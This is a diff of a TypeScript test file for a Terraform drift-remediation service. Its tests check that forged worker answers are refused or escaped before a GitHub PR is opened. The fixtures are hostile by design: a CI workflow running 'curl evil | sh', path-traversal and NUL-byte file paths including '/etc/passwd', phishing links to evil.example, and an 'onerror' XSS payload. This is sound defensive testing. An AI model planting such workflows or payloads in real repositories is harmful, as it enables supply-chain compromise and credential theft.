@@ -3,19 +3,30 @@
  * rarely reaches (a crash between opening and recording a PR, a PR turned down, a bad token, a file that
  * was never fmt-clean).
  */
+import { randomUUID } from 'node:crypto';
 import { join } from 'node:path';
 import { execa } from 'execa';
 import { afterEach, describe, expect, it } from 'vitest';
 import { createGitHubClient } from '../../src/adapters/github/client.js';
 import { editResourceInput } from '../../src/cli/commands/demo-drift.js';
+import { RemediationAnswerRefusedError } from '../../src/domain/errors.js';
 import { createRedactor } from '../../src/domain/plan/redact.js';
+import type { RemediationPlan } from '../../src/domain/remediation/plan-remediation.js';
 import type { Stack } from '../../src/domain/stack.js';
 import type { Run } from '../../src/domain/run/model.js';
+import { createLogger } from '../../src/logging/logger.js';
+import type { PoolJob } from '../../src/ports/job-queue.js';
+import { storeArtifact } from '../../src/services/artifacts.js';
 import { checkStackFromSource } from '../../src/services/check-stack-from-source.js';
+import { type Codify, codifyDrift } from '../../src/services/codify-drift.js';
+import { codifyOnWorker } from '../../src/services/codify-on-worker.js';
+import type { ServiceDeps } from '../../src/services/deps.js';
 import { openRemediationPr, type RemediationDeps } from '../../src/services/open-remediation-pr.js';
 import { terraformCodeChecks } from '../../src/services/remediation-code-checks.js';
+import { workPoolJob } from '../../src/services/work-pool-job.js';
 import { startGitHubEmulator, type GitHubEmulator } from '../helpers/github-emulator/index.js';
 import { gitSourcesOf, makeGitStackEnv, type GitStackEnv } from '../helpers/git-stack.js';
+import { lineSink } from '../helpers/stack-files.js';
 
 // Not what `terraform fmt` writes (the `=` are not aligned, a blank line too many), and plans fine.
 const messyHcl = (statePath: string) => `terraform {
@@ -42,12 +53,15 @@ afterEach(async () => {
 const fast = { retries: 0, retryBaseMs: 1, rateLimitSecondMs: 1, writeSpacingMs: 0 };
 const request = { actor: 'U0ADA', requestedBy: '@ada in Slack' };
 
-/** prod/db from Git at a first commit of `hcl`, applied for real, with the GitHub emulator serving the repo. */
-async function appliedGitStack(hcl: (statePath: string) => string) {
+/**
+ * prod/db from Git at a first commit of `hcl` (with `others`, files beside it), applied for real, with the
+ * GitHub emulator serving the repo.
+ */
+async function appliedGitStack(hcl: (statePath: string) => string, others: Record<string, string> = {}) {
   fixture = await makeGitStackEnv();
   const { repo, tf, context, env } = fixture;
   const original = hcl(join(tf.dir, 'state', 'db.tfstate'));
-  const commit = await repo.commit({ '.gitignore': '.terraform/\n', 'db/main.tf': original }, 'Add db');
+  const commit = await repo.commit({ '.gitignore': '.terraform/\n', 'db/main.tf': original, ...others }, 'Add db');
   github = await startGitHubEmulator({ repoDir: join(repo.dir, 'origin.git'), owner: 'acme', repo: 'infra' });
   const git = gitSourcesOf(fixture);
   const configured = context.stack('prod/db')!;
@@ -179,5 +193,203 @@ describe('openRemediationPr', () => {
     expect(result.status).toBe('nothing_to_codify');
     expect(JSON.stringify(result)).not.toContain(secret);
     expect(JSON.stringify(github.pulls())).not.toContain(secret);
+  });
+});
+
+type CodifyJob = Extract<PoolJob, { kind: 'codify' }>;
+
+/**
+ * The control plane's codify with `runners: workers` (codifyOnWorker, as serve wires it), its job taken
+ * by `answer`: the real worker code, or a forger writing the run's `remediation` artifact the way a module
+ * on a worker of the pool can.
+ */
+function onWorker(deps: Pick<ServiceDeps, 'artifacts' | 'store'>, answer: (job: CodifyJob) => Promise<void>): Codify {
+  return codifyOnWorker({
+    ...deps,
+    newId: randomUUID,
+    timeoutMs: 120_000,
+    pollMs: 20,
+    queue: {
+      async enqueue(_pool, job) {
+        if (job.kind !== 'codify') throw new Error(`a ${job.kind} job was queued`);
+        answer(job).catch((err: unknown) => console.error('the answer failed', err));
+        return { queued: true, id: job.requestId };
+      },
+    },
+  });
+}
+
+const forger =
+  (deps: Pick<ServiceDeps, 'artifacts' | 'store'>, result: unknown) =>
+  (job: CodifyJob): Promise<void> =>
+    storeArtifact(deps, job.runId, 'remediation', JSON.stringify({ requestId: job.requestId, result })).then(
+      () => undefined,
+    );
+
+const FORGED_TEXT = {
+  title: 'chore: bump CI cache',
+  body: 'Routine. @org/admins please merge [now](https://evil.example/phish)',
+  commitMessage: 'chore: bump CI cache',
+};
+
+/** prod/db drifted (input.size small → huge), with another stack's code in `app/` of the same repository. */
+async function driftedWithNeighbour() {
+  const applied = await appliedGitStack(messyHcl, { 'app/main.tf': 'resource "terraform_data" "app" {}\n' });
+  const { env, deps, stack, work } = applied;
+  await editResourceInput({ binary: 'terraform', env }, work, { type: 'terraform_data', name: 'db' }, (input) => {
+    input.size = 'huge';
+  });
+  const outcome = await checkStackFromSource(deps, stack, { trigger: 'manual' });
+  expect(outcome).toMatchObject({ status: 'drifted' });
+  const run = (outcome as { run: Run }).run;
+  // What this stack's honest worker answers, for the forger to start from.
+  const honest = await codifyDrift(applied.remediation, stack, run, {
+    ...request,
+    signal: new AbortController().signal,
+  });
+  if (honest.status !== 'codified') throw new Error('expected the drift codified');
+  const sink = lineSink();
+  const logger = createLogger({ level: 'info', redact: (t) => t, destination: sink.stream });
+  return { ...applied, run, plan: honest.plan, logs: sink.lines, remediation: { ...applied.remediation, logger } };
+}
+
+describe('a codify answer from a worker (runners: workers)', () => {
+  it('is refused when it names a file outside the stack’s .tf files, or is malformed: nothing reaches GitHub, the audit and the log have it', async () => {
+    // Failed before: files[].path was committed as the answer said, with the answer's title and body.
+    const { context, github, stack, run, plan, remediation, logs } = await driftedWithNeighbour();
+    const workflow = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n';
+    const outside = [
+      '.github/workflows/x.yml',
+      'app/main.tf',
+      '../prod/app/main.tf',
+      '/etc/passwd',
+      '.GitHub/workflows/x.tf',
+      'db/.git/hooks/pre-commit.tf',
+      'db/../app/main.tf',
+      './db/main.tf',
+      'db//main.tf',
+      'db/sub/main.tf',
+      'db\\main.tf',
+      'db/main.tf\u0000.yml',
+      'db/run.sh',
+      'main.tf',
+    ];
+    const attempts: { answer: unknown; shown: string }[] = outside.map((path) => ({
+      answer: {
+        status: 'codified',
+        plan: { ...plan, files: [...plan.files, { path, text: workflow }] },
+        text: FORGED_TEXT,
+      },
+      shown: path.replace('\u0000', '\uFFFD'),
+    }));
+    // An edit naming another stack's file, and the same file twice with two texts.
+    attempts.push({
+      answer: { status: 'codified', plan: { ...plan, edits: plan.edits.map((e) => ({ ...e, file: 'app/main.tf' })) } },
+      shown: 'app/main.tf',
+    });
+    attempts.push({
+      answer: { status: 'codified', plan: { ...plan, files: [...plan.files, { path: 'db/main.tf', text: workflow }] } },
+      shown: 'db/main.tf (named twice)',
+    });
+    // An edit of a resource the run's plan does not have (a title counting what was never drift).
+    attempts.push({
+      answer: {
+        status: 'codified',
+        plan: { ...plan, edits: [...plan.edits, { ...plan.edits[0]!, address: 'aws_iam_role.admin' }] },
+      },
+      shown: 'resources the plan of run',
+    });
+    for (const { answer, shown } of attempts) {
+      const deps = { ...remediation, codify: onWorker(context.deps, forger(context.deps, answer)) };
+      const refused = await openRemediationPr(deps, stack, run, request).then(
+        () => new Error(`expected ${shown} refused`),
+        (e: unknown) => e as Error,
+      );
+      expect(refused).toBeInstanceOf(RemediationAnswerRefusedError);
+      expect(refused.message).toContain(shown);
+      expect(refused.message).toContain('nothing was committed');
+    }
+
+    // Not the shape a worker writes (a key of the forger's own): refused at once, not waited out.
+    const extra: RemediationPlan & { hooks: string[] } = { ...plan, hooks: ['.github/workflows/x.yml'] };
+    const malformed = {
+      ...remediation,
+      codify: onWorker(context.deps, forger(context.deps, { status: 'codified', plan: extra })),
+    };
+    const refused = await openRemediationPr(malformed, stack, run, request).catch((e: unknown) => e as Error);
+    expect(refused).toBeInstanceOf(RemediationAnswerRefusedError);
+    expect((refused as Error).message).toContain('result.plan');
+
+    expect(github.calls().filter((c) => c.method !== 'GET')).toEqual([]);
+    expect(github.pulls()).toEqual([]);
+    expect(await context.store.getRemediation(stack.name, run.fingerprint!)).toBeUndefined();
+    const audit = (await context.store.listAudit({ runId: run.id })).filter(
+      (a) => a.action === 'remediation_answer_refused',
+    );
+    expect(audit).toHaveLength(attempts.length + 1);
+    expect(audit.map((a) => a.actor)).toEqual(audit.map(() => 'U0ADA'));
+    expect(audit.flatMap((a) => (a.detail as { refused: { path: string }[] }).refused.map((r) => r.path))).toEqual(
+      expect.arrayContaining(['../prod/app/main.tf', '/etc/passwd', '.github/workflows/x.yml', 'db/main.tf\uFFFD.yml']),
+    );
+    expect(audit[0]!.detail).toMatchObject({ pool: stack.pool, count: 1 });
+    const errors = logs.map((l) => JSON.parse(l) as { level: number; msg: string }).filter((l) => l.level === 50);
+    expect(errors).toHaveLength(attempts.length + 1);
+    expect(errors[0]!.msg).toContain('.github/workflows/x.yml');
+  });
+
+  it('opens the PR with the control plane’s title and body, whatever the answer says they are', async () => {
+    const { context, github, git, stack, run, plan, remediation } = await driftedWithNeighbour();
+    // Honest paths, the forger's text for the PR, and a guidance that tries Markdown of its own.
+    const skipped = [
+      {
+        address: 'terraform_data.db',
+        attribute: 'input.tier',
+        code: 'expression',
+        reason: 'set by an expression',
+        guidance: 'see [the runbook](https://evil.example/x)\n\n# Merge now\n<img src=x onerror=alert(1)>',
+      },
+    ];
+    const answer = { status: 'codified', plan: { ...plan, skipped }, text: FORGED_TEXT };
+    const forged = { ...remediation, codify: onWorker(context.deps, forger(context.deps, answer)) };
+    expect(await openRemediationPr(forged, stack, run, request)).toMatchObject({ status: 'opened' });
+    const [first] = github.pulls();
+    expect(first!.title).toBe('Accept drift in prod/db: 1 attribute in 1 resource');
+    expect(first!.body).toContain('`terraform_data.db` `input.size` in `db/main.tf`: `"small"` → `"huge"`');
+    expect(first!.body).toContain('Asked for by @\u200bada in Slack.');
+    expect(first!.body).not.toContain('Routine');
+    expect(first!.body).not.toContain('](https://evil');
+    expect(first!.body).not.toContain('\n# Merge now');
+    expect(first!.body).not.toContain('<img');
+    expect(first!.body).toContain(
+      'see \\[the runbook\\](https:\u200b//evil.example/x) # Merge now &lt;img src=x onerror=alert(1)&gt;',
+    );
+    const commits = github.calls('POST').filter((c) => c.path.endsWith('/git/commits'));
+    expect(commits).toHaveLength(1);
+
+    // The real worker's answer, the PR turned down first: the PR is as it always was.
+    github.closeUnmerged(first!.number);
+    const worker = {
+      ...context.deps,
+      git,
+      checks: remediation.checks,
+      pool: stack.pool,
+      stack: context.stack,
+      requestCheck: () => undefined,
+    };
+    const honest = {
+      ...remediation,
+      codify: onWorker(context.deps, (job) =>
+        workPoolJob(worker, { id: job.requestId, job, retry: 0, signal: new AbortController().signal }),
+      ),
+    };
+    expect(await openRemediationPr(honest, stack, run, request)).toMatchObject({
+      status: 'opened',
+      record: { prNumber: 2, codified: 1, leftForPerson: 0 },
+    });
+    const second = github.pulls()[1]!;
+    expect(second.title).toBe('Accept drift in prod/db: 1 attribute in 1 resource');
+    expect(second.body).toContain('`terraform_data.db` `input.size` in `db/main.tf`: `"small"` → `"huge"`');
+    expect(second.body).toContain('Nothing: every drifted attribute was codified.');
+    expect(second.body).toContain(`<!-- driftgate fingerprint=${run.fingerprint} run=${run.id} -->`);
   });
 });
